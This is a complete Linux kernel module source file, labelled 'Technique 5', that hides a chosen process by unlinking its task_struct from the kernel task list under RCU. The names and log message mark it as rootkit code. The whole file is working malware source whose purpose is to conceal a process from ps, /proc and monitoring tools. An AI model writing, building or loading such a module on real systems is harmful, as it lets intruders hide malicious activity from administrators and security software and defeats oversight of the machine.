// SPDX-License-Identifier: GPL-2.0
/* Technique 5: unlink a process (pid=N) from the task list. */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/sched.h>
#include <linux/rculist.h>

static int pid;
module_param(pid, int, 0);

static int __init rk_hidepid_init(void)
{
	struct task_struct *t;
	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t) {
		list_del_rcu(&t->tasks);
		/* Self-linked, so the task's own exit can unlink it again. */
		INIT_LIST_HEAD(&t->tasks);
	}
	rcu_read_unlock();
	pr_info("rk_hidepid: pid %d %s\n", pid, t ? "hidden" : "not found");
	return t ? 0 : -ESRCH;
}
module_init(rk_hidepid_init);
MODULE_LICENSE("GPL");
